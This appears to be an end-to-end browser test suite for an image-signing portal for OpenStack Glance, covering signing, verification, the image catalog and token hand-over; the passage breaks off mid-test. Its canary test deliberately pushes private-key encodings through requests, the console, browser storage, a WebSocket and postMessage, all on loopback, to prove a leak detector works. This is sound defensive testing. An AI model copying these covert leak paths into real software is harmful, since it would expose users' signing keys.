// End-to-end tests of the portal in real Chromium against the real local cloud
// (scripts/cloud/stack.sh) and the built portal served on 127.0.0.1:8080.
// Run through tests/portal/run.sh, which starts what they need.
import { after, before, describe, test } from "node:test";
import assert from "node:assert/strict";
import { join } from "node:path";
import { execFileSync } from "node:child_process";
import { readFileSync, writeFileSync } from "node:fs";
import { createHash } from "node:crypto";
import { createServer } from "node:http";
import {
  RUN,
  PORTAL_DIR,
  certificateAuthority,
  fingerprint,
  issue,
  storeCertificateSecret,
  uploadSignedImage,
  HOST_OK,
  HOST_BAD,
  PORTAL,
  SIGNATURE_PROPERTIES,
  assertNoKeyMaterial,
  assertNoKeyMaterialIn,
  assertBrowserKeepsKeys,
  keyMaterialIn,
  channelsOf,
  fixtureNeedles,
  generatedKey,
  keyNeedles,
  recordWorkerRandomness,
  chooseImage,
  cleanupImages,
  glance,
  imagesNamed,
  keyPair,
  launch,
  tracked,
  loadKey,
  openPortal,
  randomFile,
  signAndUpload,
  signAndUploadVerified,
  signIn,
  storeCertificate,
  token,
  waitFor,
  unscopedToken,
  workDir,
} from "./lib.mjs";

const dir = workDir();
const rsa = keyPair(dir, "rsa");
const ec = keyPair(dir, "ec", { type: "ec", passphrase: "correct horse" });
const wrong = keyPair(dir, "wrong");
const image = randomFile(join(dir, "disk.img"), 5 * 1024 * 1024 + 12345);
// Different bytes, for an image whose properties belong to other data.
const other = randomFile(join(dir, "other.img"), 1024 * 1024 + 7);
// A real (empty) qcow2 image, made by qemu-img: Glance 33 inspects qcow2 data and refuses a
// file that only starts with the magic ("Image failed safety checks").
const qcow = join(dir, "small.qcow2");
execFileSync("qemu-img", ["create", "-q", "-f", "qcow2", qcow, "64M"]);
// What the leak check looks for: each loaded key's encodings, and (pushed by the test that
// makes it) the key generated in the portal.
const needles = [fixtureNeedles("rsa", rsa), fixtureNeedles("ec", ec), fixtureNeedles("wrong", wrong)];

let api;
// Every browser of every test: their captured requests are checked for key material at the end.
const browsers = [];
const browser = tracked(browsers);

before(async () => {
  api = await token();
});

after(async () => {
  const totals = {};
  try {
    for (const b of browsers) {
      for (const [channel, n] of Object.entries(await assertBrowserKeepsKeys(b, needles))) totals[channel] = (totals[channel] || 0) + n;
    }
  } finally {
    for (const b of browsers) await b.context.close().catch(() => {});
    await cleanupImages(api).catch(() => {});
  }
  const keys = needles.map((n) => n.name).join(", ");
  console.log(`# key-leak check over ${browsers.length} browsers, keys ${keys}: ${JSON.stringify(totals)} items checked, no key material found`);
});

/** Writes the served portal's config.json with `change` applied for the length of `run`. */
async function withConfig(change, run) {
  const path = join(PORTAL_DIR, "config.json");
  const original = readFileSync(path, "utf8");
  const config = JSON.parse(original);
  change(config);
  writeFileSync(path, JSON.stringify(config, null, 2) + "\n");
  try {
    return await run();
  } finally {
    writeFileSync(path, original);
  }
}

/** The Keystone token validations (GET /v3/auth/tokens with X-Subject-Token) of `token`. */
const validations = (requests, tok) =>
  requests.filter((r) => r.method() === "GET" && /\/v3\/auth\/tokens$/.test(r.url()) && r.headers()["x-subject-token"] === tok);

/**
 * A minimal WebSocket server (the handshake only) that also serves a blank page: the canary's
 * frames need somewhere to go, from a loopback page without the portal's CSP (Chromium's local
 * network access checks refuse a loopback socket from about:blank).
 */
function webSocketSink() {
  const server = createServer((req, res) => res.writeHead(200, { "Content-Type": "text/html" }).end("<!doctype html><title>sink</title>"));
  server.on("upgrade", (req, socket) => {
    const accept = createHash("sha1").update(req.headers["sec-websocket-key"] + "258EAFA5-E914-47DA-95CA-C5AB0DC85B11").digest("base64");
    socket.write(`HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Accept: ${accept}\r\n\r\n`);
    socket.on("data", () => {});
    socket.on("error", () => {});
  });
  return new Promise((resolve) => server.listen(0, "127.0.0.1", () => resolve(server)));
}

/**
 * A fresh browser, signed in, verifies `imageId` on the verify tab; returns the browser with the
 * verdict element and its text. `onTab(page)` runs once the tab shows, before the id is entered.
 */
async function verifyInBrowser(imageId, onTab = async () => {}) {
  const b = await browser();
  await openPortal(b.page);
  await signIn(b.page);
  await b.page.click("#tab-verify");
  await onTab(b.page);
  await b.page.fill("#verify-image-id", imageId);
  await b.page.click("#verify-run");
  const verdict = await b.page.waitForSelector("#verdict", { timeout: 60_000 });
  return { ...b, verdict, text: await verdict.innerText() };
}

describe("portal", () => {
  let signedImageId;

  test("the key-leak check catches key material (canary: the check itself works)", async () => {
    // A browser outside `browsers`: it carries key material on purpose, one encoding planted
    // in each channel, and the check of each channel must find it.
    const canary = await launch();
    const sink = await webSocketSink();
    try {
      const key = rsa.plainPem;
      const jwk = (await import("node:crypto")).createPrivateKey(key).export({ format: "jwk" });
      const ecJwk = (await import("node:crypto")).createPrivateKey(ec.plainPem).export({ format: "jwk" });
      const b64 = (v) => Buffer.from(v, "base64url").toString("base64");
      const hex = (v) => Buffer.from(v, "base64url").toString("hex");
      const pkcs1 = (await import("node:crypto")).createPrivateKey(key).export({ type: "pkcs1", format: "der" });
      const line = rsa.plainPem.split("\n")[5];
      const derB64 = rsa.der.toString("base64");
      // Requests: a PEM line in a body, the DER in a URL, base64 of a PEM line in JSON.
      await canary.page.goto(PORTAL);
      await canary.page.evaluate(async ([line, derB64]) => {
        await fetch("/canary-body", { method: "POST", body: `x${line}y` }).catch(() => {});
        await fetch(`/canary-url?k=${encodeURIComponent(derB64)}`).catch(() => {});
        await fetch("/canary-json", { method: "POST", body: JSON.stringify({ payload: btoa(String.fromCharCode(...new TextEncoder().encode(line))) }) }).catch(() => {});
      }, [line, derB64]);
      // Console: RSA p in hex. Storage: the PKCS#1 DER in base64url (localStorage), q in hex
      // (sessionStorage), the raw DER bytes (IndexedDB), d in base64 (Cache Storage), the EC
      // key's raw scalar (OPFS).
      await canary.page.evaluate(async ([p, pkcs1, q, derB64, d, ecD]) => {
        const raw = (text) => Uint8Array.from(atob(text), (c) => c.charCodeAt(0));
        console.log(`debug ${p}`);
        localStorage.setItem("canary", pkcs1);
        sessionStorage.setItem("canary", q);
        await new Promise((resolve, reject) => {
          const open = indexedDB.open("canary", 1);
          open.onupgradeneeded = () => open.result.createObjectStore("keys");
          open.onsuccess = () => {
            const tx = open.result.transaction("keys", "readwrite");
            tx.objectStore("keys").put({ der: raw(derB64) }, "k");
            tx.oncomplete = () => { open.result.close(); resolve(); };
            tx.onerror = () => reject(tx.error);
          };
          open.onerror = () => reject(open.error);
        });
        const cache = await caches.open("canary");
        await cache.put("/canary-cached", new Response(`key=${d}`));
        const dir = await navigator.storage.getDirectory();
        const file = await dir.getFileHandle("canary.bin", { create: true });
        const writable = await file.createWritable();
        await writable.write(raw(ecD));
        await writable.close();
      }, [hex(jwk.p), pkcs1.toString("base64url"), hex(jwk.q), derB64, b64(jwk.d), b64(ecJwk.d)]);
      // A WebSocket frame: RSA dq in base64url, sent from a page without the portal's CSP.
      const wsPage = await canary.context.newPage();
      await wsPage.waitForTimeout(500); // the DevTools session of a new page attaches
      await wsPage.goto(`http://127.0.0.1:${sink.address().port}/`);
      await wsPage.evaluate(async ([url, dq]) => {
        const ws = new WebSocket(url);
        await new Promise((resolve, reject) => { ws.onopen = resolve; ws.onerror = reject; });
        ws.send(`k=${dq}`);
        await new Promise((r) => setTimeout(r, 200));
        ws.close();
      }, [`ws://127.0.0.1:${sink.address().port}/`, jwk.dq]);
      // postMessage to the parent: the portal framed by the host page sends the PKCS#8 DER as
      // bytes and the PKCS#1 PEM body as text. (rsa.der, openssl's, is PKCS#1.)
      const host = await canary.context.newPage();
      await host.goto(`${HOST_OK}?mode=frame`);
      const frame = await (await host.waitForSelector("#portal")).contentFrame();
      await frame.waitForLoadState();
      const pkcs1Body = (await import("node:crypto")).createPrivateKey(key).export({ type: "pkcs1", format: "pem" })
        .split("\n").filter((l) => l && !l.startsWith("-----")).join("");
      const pkcs8B64 = (await import("node:crypto")).createPrivateKey(key).export({ type: "pkcs8", format: "der" }).toString("base64");
      await frame.evaluate(([der, body]) => {
        parent.postMessage(Uint8Array.from(atob(der), (c) => c.charCodeAt(0)), "*");
        parent.postMessage({ note: body }, "*");
      }, [pkcs8B64, pkcs1Body]);
      await host.waitForFunction(() => window.received.filter((m) => !m.data.includes("glance-sig:ready")).length >= 2);
      await canary.page.waitForTimeout(300);

      for (const path of ["/canary-body", "/canary-url", "/canary-json"]) {
        const requests = canary.requests.filter((r) => new URL(r.url()).pathname === path);
        assert.equal(requests.length, 1, path);
        await assert.rejects(assertNoKeyMaterial(requests, needles), /private key material in requests/, path);
      }
      // Each channel, and each part of it, must report what was planted there (and the
      // assertion that throws for the whole channel is the one the after hook runs).
      const channels = await channelsOf(canary);
      const caught = (label, items, planted) => {
        assert.ok(items.length > 0, `${label}: something was read`);
        assert.throws(() => assertNoKeyMaterialIn(label, items, needles), /private key material/, label);
        const hits = keyMaterialIn(items, needles).map((h) => `${h.what} in ${h.where}`);
        assert.ok(hits.some((h) => planted.test(h)), `${label}: ${planted} not among ${hits.slice(0, 8).join("; ")}`);
      };
      const net = channels["DevTools network (requests, WebSocket frames)"];
      caught("DevTools requests", net.filter((i) => i.where.startsWith("DevTools request")), /in DevTools request POST http:\/\/127\.0\.0\.1:8080\/canary-body/);
      caught("WebSocket frames", net.filter((i) => i.where.startsWith("a WebSocket frame sent")), /rsa RSA dq base64url in a WebSocket frame sent/);
      caught("console", channels.console, /rsa RSA p hex in console/);
      const messages = channels["postMessage to the host page"];
      caught("postMessage (bytes)", messages.filter((i) => i.text.startsWith('{"base64"')), /rsa PKCS#8 (DER|PEM body)/);
      caught("postMessage (text)", messages.filter((i) => i.text.includes('"note"')), /rsa PKCS#1 PEM body/);
      const storage = channels.storage;
      for (const [area, planted] of [
        ["localStorage", /rsa PKCS#1 DER base64url in localStorage/],
        ["sessionStorage", /rsa RSA q hex in sessionStorage/],
        ["IndexedDB", /rsa PKCS#1 DER \(raw bytes\) in IndexedDB/],
        ["Cache Storage", /rsa RSA d base64 in Cache Storage/],
        ["OPFS", /ec EC d \(raw bytes\) in OPFS/],
      ]) {
        caught(area, storage.filter((item) => item.where.startsWith(area)), planted);
      }
    } finally {
      await canary.context.close();
      sink.close();
    }
  });

  test("sign and upload: Glance verifies it, the image is active with all four properties", async () => {
    const { page, requests, consoleLines, context } = await browser();
    // Trusted Types and other policy violations, from the first script on.
    await page.addInitScript(() => {
      window.__violations = [];
      document.addEventListener("securitypolicyviolation", (e) => window.__violations.push(`${e.violatedDirective}: ${e.blockedURI} ${e.sample}`));
    });
    await openPortal(page);
    await signIn(page);
    // The key file's File object, held weakly: once the key is read nothing may keep it.
    await page.evaluate(() => document.addEventListener("change", (e) => {
      if (e.target.id === "key-file" && e.target.files[0]) window.__keyFile = new WeakRef(e.target.files[0]);
    }, true));
    await loadKey(page, rsa.key);
    assert.equal(await page.innerText("#key-file-chosen"), "rsa.key.pem");
    assert.equal(await page.$eval("#key-file", (input) => input.files.length), 0, "the file input holds no File");
    const cdp = await context.newCDPSession(page);
    for (let i = 0; i < 3; i++) {
      await cdp.send("HeapProfiler.collectGarbage");
      await page.waitForTimeout(100);
    }
    assert.equal(await page.evaluate(() => window.__keyFile && window.__keyFile.deref() === undefined), true,
      "the key file's File object is dropped once the key is read");
    const certUuid = await storeCertificate(page, rsa.cert);
    await page.waitForSelector('#key-match[data-match="true"]');
    const name = `${RUN}-signed`;
    await chooseImage(page, image, name);
    assert.equal(await page.getAttribute("#image-chosen", "data-format"), "raw");
    const outcome = await signAndUploadVerified(page, api, certUuid, {
      name,
      size: 5 * 1024 * 1024 + 12345,
      img_signature_key_type: "RSA-PSS",
      img_signature_hash_method: "SHA-256",
    });

    // The four properties went in the one create request, and the data in one PUT.
    const creates = requests.filter((r) => r.method() === "POST" && /\/v2\/images$/.test(r.url()));
    assert.equal(creates.length, 1);
    const body = JSON.parse(creates[0].postData());
    for (const property of SIGNATURE_PROPERTIES) assert.ok(body[property], `${property} in the POST`);
    assert.equal(requests.filter((r) => r.method() === "PATCH").length, 0, "no property added later");
    const puts = requests.filter((r) => r.method() === "PUT" && r.url().endsWith(`/v2/images/${outcome.imageId}/file`));
    assert.equal(puts.length, 1);
    // Requests made by the workers are captured too (the worker fetches the component's core
    // wasm; its reader thread makes none).
    assert.ok(requests.some((r) => r.url().endsWith("/component/glance-sig.core.wasm")), "worker requests captured");
    // The token is never stored: nothing in localStorage or sessionStorage.
    const storage = await page.evaluate(() => [localStorage.length, sessionStorage.length, document.cookie]);
    assert.deepEqual(storage, [0, 0, ""]);
    // The whole flow (the app, its worker, the worker's reader thread) under Trusted Types:
    // no violation reported, and none logged.
    assert.deepEqual(await page.evaluate(() => window.__violations), []);
    assert.deepEqual(consoleLines.filter((l) => /trusted ?type|TrustedScriptURL|TrustedHTML|securitypolicy/i.test(l)), []);
    // The loaded key in no channel, at the end of this flow (the after hook checks all again).
    await assertBrowserKeepsKeys({ context, requests, consoleLines, cdp: [] }, needles);
    signedImageId = outcome.imageId;
  });

  test("an encrypted EC P-384 key (passphrase), qcow2 detected, SHA-384", async () => {
    const { page } = await browser();
    await openPortal(page);
    await signIn(page);
    await page.setInputFiles("#key-file", ec.key);
    await page.waitForSelector('#key-status[data-status="passphrase"]');
    await page.fill("#key-passphrase", "wrong passphrase");
    await page.click("#key-unlock");
    await page.waitForSelector('#key-status[data-status="passphrase"] ~ p.bad, #key-passphrase-form p.bad');
    await page.fill("#key-passphrase", "correct horse");
    await page.click("#key-unlock");
    await page.waitForSelector('#key-status[data-status="loaded"][data-key-type="ECC_SECP384R1"]');
    const certUuid = await storeCertificate(page, ec.cert);
    await page.waitForSelector('#key-match[data-match="true"]');
    await chooseImage(page, qcow, `${RUN}-ec`);
    assert.equal(await page.getAttribute("#image-chosen", "data-format"), "qcow2");
    await page.selectOption("#hash-method", "SHA-384");
    await signAndUploadVerified(page, api, certUuid, {
      disk_format: "qcow2",
      img_signature_key_type: "ECC_SECP384R1",
      img_signature_hash_method: "SHA-384",
    });
  });

  test("tampered upload (debug=tamper): Glance refuses it, the portal says so, the image is gone", async () => {
    const { page, requests } = await browser();
    await openPortal(page, "?debug=tamper");
    await signIn(page);
    // The test build (feature test-hooks) shows the hook is on.
    await waitFor(page, "#tamper-warning", { timeout: 10_000 });
    await loadKey(page, rsa.key);
    await storeCertificate(page, rsa.cert);
    await page.waitForSelector('#key-match[data-match="true"]');
    const name = `${RUN}-tampered`;
    await chooseImage(page, image, name);
    const outcome = await signAndUpload(page);
    assert.equal(outcome.kind, "refused", outcome.text);
    assert.equal(outcome.deleted, "true");
    assert.match(outcome.text, /Refused by Glance/);
    assert.match(outcome.text, /Signature verification failed/);
    assert.match(outcome.text, /was deleted/);
    const shown = await glance(api, "GET", `/v2/images/${outcome.imageId}`);
    assert.equal(shown.status, 404, "the refused image is deleted");
    assert.deepEqual(await imagesNamed(api, name), []);
    const deletes = requests.filter((r) => r.method() === "DELETE" && r.url().endsWith(`/v2/images/${outcome.imageId}`));
    assert.equal(deletes.length, 1);
  });

  test("a key that does not match the certificate is refused before any upload", async () => {
    const { page, requests } = await browser();
    await openPortal(page);
    await signIn(page);
    // The certificate of `rsa`, stored first; then the wrong key.
    await storeCertificate(page, rsa.cert);
    await loadKey(page, wrong.key);
    await page.waitForSelector('#key-match[data-match="false"]');
    await chooseImage(page, image, `${RUN}-wrong-key`);
    assert.match(await page.innerText("#blockers"), /does not match the certificate/);
    assert.equal(await page.isDisabled("#sign-upload"), true);
    // Even a forced click does nothing.
    await page.click("#sign-upload", { force: true });
    await page.waitForTimeout(1000);
    assert.equal(await page.$("#outcome"), null);
    const toGlance = requests.filter((r) => /\/v2\/images/.test(r.url()) && r.method() !== "GET");
    assert.deepEqual(toGlance.map((r) => `${r.method()} ${r.url()}`), [], "nothing sent to Glance");
    assert.deepEqual(await imagesNamed(api, `${RUN}-wrong-key`), []);
  });

  test("verify in the browser: the signed image verifies, streamed from Glance through the worker", async () => {
    assert.ok(signedImageId, "the sign test ran first");
    const { page, verdict, text } = await verifyInBrowser(signedImageId);
    assert.equal(await verdict.getAttribute("data-valid"), "true", text);
    assert.match(text, /signature valid/);
    // No trusted certificate in this portal's config.json: valid, but who signed is not
    // established, and the verdict says so (amber, not the green of an established signer).
    assert.equal(await page.getAttribute("#trust-config", "data-anchors"), "0");
    assert.equal(await verdict.getAttribute("data-trust"), "not-established");
    assert.equal(await verdict.getAttribute("data-trust-code"), "no-trust-anchor");
    assert.match(await verdict.getAttribute("class"), /\bwarn\b/);
    assert.match(await page.innerText("#verdict-trust"), /Authenticity NOT established: the image was signed with the key of certificate CN=portal-e2e-\S+ rsa/);
    // The certificate, the checks and the RSA-PSS salt, as the CLI prints them.
    assert.equal(await page.getAttribute("#verdict-certificate", "data-fingerprint"), fingerprint(rsa.cert));
    assert.match(await page.innerText("#verdict-certificate"), new RegExp(`CN=${RUN} rsa`));
    assert.equal(await page.locator('#verdict-checks li[data-passed="true"]').count(), 7);
    assert.equal(await page.getAttribute("#verdict-pss", "data-salt"), "222");
    assert.equal(await page.$("#verdict-chain"), null, "no chain without trusted certificates");
    const cliText = await page.$eval("#verdict-text pre", (e) => e.textContent);
    assert.match(cliText, /^✔ Signature valid: RSA-PSS with SHA-256, certificate CN=/);
    assert.match(cliText, /! Trust: authenticity NOT established/);
  });

  test("verify in the browser: data changed after signing is reported as not valid", async () => {
    // An image whose properties claim the signature of another image's data (a signed image's
    // properties copied onto different bytes, uploaded without verification).
    const source = await glance(api, "GET", `/v2/images/${signedImageId}`);
    const props = Object.fromEntries(SIGNATURE_PROPERTIES.map((k) => [k, source.json[k]]));
    const created = await glance(api, "POST", "/v2/images",
      JSON.stringify({ name: `${RUN}-mismatch`, disk_format: "raw", container_format: "bare",
        img_signature_hash_method: props.img_signature_hash_method }),
      { "Content-Type": "application/json" });
    const id = created.json.id;
    const { readFileSync } = await import("node:fs");
    const put = await glance(api, "PUT", `/v2/images/${id}/file`, readFileSync(other), { "Content-Type": "application/octet-stream" });
    assert.equal(put.status, 204, put.text);
    const patch = SIGNATURE_PROPERTIES.filter((k) => k !== "img_signature_hash_method")
      .map((k) => ({ op: "add", path: `/${k}`, value: props[k] }));
    const patched = await glance(api, "PATCH", `/v2/images/${id}`, JSON.stringify(patch),
      { "Content-Type": "application/openstack-images-v2.1-json-patch" });
    assert.equal(patched.status, 200, patched.text);

    const { page, requests, verdict, text } = await verifyInBrowser(id);
    assert.equal(await verdict.getAttribute("data-valid"), "false", text);
    assert.match(text, /NOT valid/);
    assert.equal(await verdict.getAttribute("data-error-code"), "signature-mismatch");
    assert.equal(await verdict.getAttribute("data-trust-code"), "signature-not-valid");
    assert.match(await page.innerText("#verdict-error"), /Glance\/Nova would answer: Signature verification failed/);
    // The fix is the diagnosis's (below), not a pointer to it.
    assert.equal(await page.$("#verdict-fix"), null);
    // The explanation pass: the image was downloaded a second time, and the likely cause named.
    const downloads = requests.filter((r) => r.method() === "GET" && r.url().endsWith(`/v2/images/${id}/file`));
    assert.equal(downloads.length, 2, "one download to verify, one to explain");
    assert.equal(await page.getAttribute("#verdict-diagnosis li", "data-code"), "data-changed");
    assert.match(await page.innerText("#verdict-diagnosis"), /Cause and fix/);
  });

  test("verify in the browser: an unsigned image gets the report, with nothing downloaded", async () => {
    const unsigned = await glance(api, "POST", "/v2/images",
      JSON.stringify({ name: `${RUN}-verify-unsigned`, disk_format: "raw", container_format: "bare" }),
      { "Content-Type": "application/json" });
    const { page, requests, verdict, text } = await verifyInBrowser(unsigned.json.id);
    assert.equal(await verdict.getAttribute("data-valid"), "false", text);
    assert.equal(await verdict.getAttribute("data-error-code"), "missing-property", text);
    assert.match(text, /img_signature/);
    assert.equal(await page.locator('#verdict-checks li[data-passed="false"]').count(), 1);
    assert.equal(requests.filter((r) => r.url().endsWith("/file")).length, 0, "no download");
  });

  test("catalog: signed, partially signed and unsigned images, with advice", async () => {
    const unsigned = await glance(api, "POST", "/v2/images",
      JSON.stringify({ name: `${RUN}-unsigned`, disk_format: "raw", container_format: "bare" }),
      { "Content-Type": "application/json" });
    const partial = await glance(api, "POST", "/v2/images",
      JSON.stringify({ name: `${RUN}-partial`, disk_format: "raw", container_format: "bare",
        img_signature: "c2ln", img_signature_hash_method: "SHA-256" }),
      { "Content-Type": "application/json" });
    const { page } = await browser();
    await openPortal(page);
    await signIn(page);
    await page.click("#tab-catalog");
    await page.waitForSelector("#catalog-table");
    const row = (id) => page.locator(`#catalog-table tr[data-image-id="${id}"]`);
    assert.equal(await row(signedImageId).getAttribute("data-class"), "signed");
    assert.equal(await row(unsigned.json.id).getAttribute("data-class"), "unsigned");
    assert.equal(await row(partial.json.id).getAttribute("data-class"), "partial");
    assert.match(await row(partial.json.id).innerText(), /partially signed\s+missing img_signature_key_type, img_signature_certificate_uuid/);
    // The advice, once per kind, below the table.
    const advice = (state, name) => page.locator(`#catalog-advice li[data-state="${state}"]`, { hasText: name }).innerText();
    assert.match(await advice("partial", `${RUN}-partial`), /Nova refuses to boot it/);
    assert.match(await advice("unsigned", `${RUN}-unsigned`), /verify_glance_signatures/);
    // "Verify in browser" from the catalog, for every image: the partial one gets its report.
    await row(partial.json.id).locator("button.verify").click();
    let verdict = await page.waitForSelector("#verdict[data-error-code]", { timeout: 60_000 });
    assert.equal(await verdict.getAttribute("data-error-code"), "missing-property", await verdict.innerText());
    await page.click("#tab-catalog");
    await page.waitForSelector("#catalog-table");
    await row(signedImageId).locator("button.verify").click();
    verdict = await page.waitForSelector('#verdict[data-valid="true"]', { timeout: 60_000 });
    assert.equal(await verdict.getAttribute("data-valid"), "true");
  });

  test("generated test key (WebCrypto P-384 + self-signed certificate) signs an accepted image", async () => {
    const b = await browser();
    const { page } = b;
    await openPortal(page);
    await signIn(page);
    const draws = await recordWorkerRandomness(page);
    await page.click("#generate-key");
    await page.waitForSelector('#key-status[data-status="loaded"][data-key-type="ECC_SECP384R1"]', { timeout: 30_000 });
    const status = await page.waitForSelector('#cert-status[data-status="loaded"]:not([data-uuid=""])', { timeout: 30_000 });
    const certUuid = await status.getAttribute("data-uuid");
    await page.waitForSelector('#key-match[data-match="true"]');
    await chooseImage(page, image, `${RUN}-generated`);
    await signAndUploadVerified(page, api, certUuid);
    // Barbican holds the certificate as castellan reads it.
    const meta = await fetch(`${api.barbican}/v1/secrets/${certUuid}`, {
      headers: { "X-Auth-Token": api.value, Accept: "application/json" },
    }).then((r) => r.json());
    assert.equal(meta.secret_type, "certificate");
    assert.equal(meta.content_types.default, "application/octet-stream");
    // The generated key itself, found from the worker's random draws by the certificate's
    // public key: its encodings join the leak check (here, and for every browser at the end).
    const pem = await fetch(`${api.barbican}/v1/secrets/${certUuid}/payload`, {
      headers: { "X-Auth-Token": api.value, Accept: "application/octet-stream" },
    }).then((r) => r.text());
    const key = generatedKey(await draws(), pem);
    needles.push(keyNeedles("generated", key));
    await assertBrowserKeepsKeys(b, needles);
  });

  test("application credential sign-in", async () => {
    const user = await fetch(`${process.env.OS_AUTH_URL || "http://127.0.0.1:5000/v3"}/auth/tokens`, {
      headers: { "X-Auth-Token": api.value, "X-Subject-Token": api.value },
    }).then((r) => r.json());
    const created = await fetch(
      `${process.env.OS_AUTH_URL || "http://127.0.0.1:5000/v3"}/users/${user.token.user.id}/application_credentials`,
      {
        method: "POST",
        headers: { "X-Auth-Token": api.value, "Content-Type": "application/json" },
        body: JSON.stringify({ application_credential: { name: `${RUN}-appcred` } }),
      },
    ).then((r) => r.json());
    const { id, secret } = created.application_credential;
    const { page } = await browser();
    await openPortal(page);
    await page.click("#method-appcred");
    await page.fill("#auth-appcred-id", id);
    await page.fill("#auth-appcred-secret", secret);
    await page.click("#sign-in");
    await page.waitForSelector("#session-user", { timeout: 30_000 });
    assert.match(await page.innerText("#session-user"), /demo in project demo/);
    await fetch(
      `${process.env.OS_AUTH_URL || "http://127.0.0.1:5000/v3"}/users/${user.token.user.id}/application_credentials/${id}`,
      { method: "DELETE", headers: { "X-Auth-Token": api.value } },
    );
  });

  // The portal framed by the allowed host page (tests/portal/host), which hands it `tok`.
  async function framedByHost(tok, query = "") {
    const { page, requests } = await browser();
    await page.goto(`${HOST_OK}${query}#token=${encodeURIComponent(tok)}`);
    const frame = await (await page.waitForSelector("#portal")).contentFrame();
    return { page, requests, frame };
  }

  test("embedding: an allowed host page hands a token over by postMessage; the user confirms before any upload", async () => {
    const tok = await unscopedToken();
    const { page, requests, frame } = await framedByHost(tok);
    await waitFor(frame, "#handover-confirm-card", { timeout: 60_000 });
    assert.match(await frame.innerText("#session-user"), /demo in project demo/);
    assert.equal(await frame.getAttribute("#handover-confirm-card", "data-user"), "demo");
    assert.match(await frame.innerText("#handover-who"), /signed you in as demo in project demo \(id [0-9a-f]+\)/);
    // Nothing to upload with until confirmed: no screens, no sign button.
    assert.equal(await frame.$("#tab-sign"), null);
    assert.equal(await frame.$("#sign-upload"), null);
    // The handed-over token went only to Keystone (validated, then rescoped) and the services.
    for (const r of requests.filter((r) => JSON.stringify(r.headers()).includes(tok))) {
      assert.ok(/^http:\/\/127\.0\.0\.1:(5000|9292|9311)\//.test(r.url()) || r.url().startsWith(HOST_OK), r.url());
    }
    assert.ok(validations(requests, tok).length >= 1, "the hand-over's validation is seen");
    // The listener is gone once signed in: another token from the parent is not even validated.
    const other = await unscopedToken();
    await page.evaluate((t) => window.handAgain(t), other);
    await page.waitForTimeout(1500);
    assert.deepEqual(validations(requests, other).map((r) => r.url()), [], "a message after sign-in is ignored");
    await frame.click("#handover-confirm");
    await waitFor(frame, "#tab-sign");
    // The whole flow inside the frame: what the portal posts to its parent is checked for key
    // material at the end (the host page records every message).
    await loadKey(frame, rsa.key);
    const certUuid = await storeCertificate(frame, rsa.cert);
    await frame.waitForSelector('#key-match[data-match="true"]');
    await chooseImage(frame, image, `${RUN}-embedded`);
    const outcome = await signAndUpload(frame);
    assert.equal(outcome.kind, "verified", outcome.text);
    const shown = await glance(api, "GET", `/v2/images/${outcome.imageId}`);
    assert.equal(shown.json.img_signature_certificate_uuid, certUuid);
    assert.ok((await page.evaluate(() => window.received.length)) >= 1, "the host page records messages");
  });

  /** A host-framed portal whose first token is taken to expire within a minute (the test
   * build's ?debug=token-expiring), confirmed, with the RSA key and certificate loaded. */
  async function expiringSession() {
    const tok = (await token()).value;
    const b = await framedByHost(tok, `?portal=${encodeURIComponent(`${PORTAL}?debug=token-expiring`)}`);
    await waitFor(b.frame, "#handover-confirm", { timeout: 60_000 });
    await b.frame.click("#handover-confirm");
    await waitFor(b.frame, "#tab-sign");
    await loadKey(b.frame, rsa.key);
    const certUuid = await storeCertificate(b.frame, rsa.cert);
    await b.frame.waitForSelector('#key-match[data-match="true"]');
    return { ...b, tok, certUuid };
  }

  /** The portal's Glance requests for image `id`, by the token each carried. */
  const glanceRequestsFor = (requests, id) =>
    requests.filter((r) => r.url().startsWith(`http://127.0.0.1:9292/v2/images`) && (r.url().includes(id) || r.method() === "POST"));

  test("embedding: before an upload would outlive the token, the portal asks the host page for a fresh one and uploads with it", async () => {
    const { page, requests, frame, tok, certUuid } = await expiringSession();
    // Issued after the session's token, so it lasts longer; the same user and project.
    const fresh = (await token()).value;
    await page.evaluate((t) => { window.refreshToken = t; }, fresh);
    await chooseImage(frame, image, `${RUN}-renewed`);
    const outcome = await signAndUpload(frame);
    assert.equal(outcome.kind, "verified", outcome.text);
    assert.equal(await frame.getAttribute("#token-renewal", "data-status"), "renewed", await frame.innerText("#token-renewal"));
    const asked = await page.evaluate(() => window.expiring);
    assert.ok(asked.length >= 1, "the portal asked the host page");
    assert.match(asked[0].needed_until, /^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ$/);
    assert.ok(validations(requests, fresh).length >= 1, "the fresh token was validated with Keystone first");
    const sent = glanceRequestsFor(requests, outcome.imageId);
    assert.ok(sent.length >= 3, sent.map((r) => r.url()).join("\n"));
    for (const r of sent) assert.equal(r.headers()["x-auth-token"], fresh, `${r.method()} ${r.url()} carries the fresh token`);
    assert.equal(sent.filter((r) => r.headers()["x-auth-token"] === tok).length, 0);
    const shown = await glance(api, "GET", `/v2/images/${outcome.imageId}`);
    assert.equal(shown.json.status, "active");
    assert.equal(shown.json.img_signature_certificate_uuid, certUuid);
  });

  test("embedding: a renewal with another user's token is refused, and the upload goes on with the session's own", async () => {
    const { page, requests, frame, tok } = await expiringSession();
    const stranger = (await token("other", "other-secret", "other")).value;
    await page.evaluate((t) => { window.refreshToken = t; }, stranger);
    await chooseImage(frame, image, `${RUN}-not-renewed`);
    const outcome = await signAndUpload(frame);
    assert.equal(outcome.kind, "verified", outcome.text);
    assert.equal(await frame.getAttribute("#token-renewal", "data-status"), "not-renewed");
    assert.match(await frame.innerText("#token-renewal"), /new token is for project other .*not demo|belongs to other, not demo/);
    const sent = glanceRequestsFor(requests, outcome.imageId);
    assert.ok(sent.length >= 3);
    for (const r of sent) assert.equal(r.headers()["x-auth-token"], tok, `${r.method()} ${r.url()}`);
    // The stranger's token went to Keystone's validation only.
    for (const r of requests.filter((r) => JSON.stringify(r.headers()).includes(stranger))) {
      assert.ok(r.url().startsWith("http://127.0.0.1:5000/v3/auth/tokens"), r.url());
    }
  });

  test("embedding: \"not my account\" signs out and takes no more tokens from the host", async () => {
    const tok = await unscopedToken();
    const { page, requests, frame } = await framedByHost(tok);
    await waitFor(frame, "#handover-reject", { timeout: 60_000 });
    await frame.click("#handover-reject");
    await waitFor(frame, "#login #handover-notice");
    assert.match(await frame.innerText("#handover-notice"), /Signed out of the account the host page or link signed you in with/);
    const before = validations(requests, tok).length;
    assert.ok(before >= 1, "the hand-over's own validation is seen (the count below means something)");
    await page.evaluate((t) => window.handAgain(t), tok);
    await page.waitForTimeout(1500);
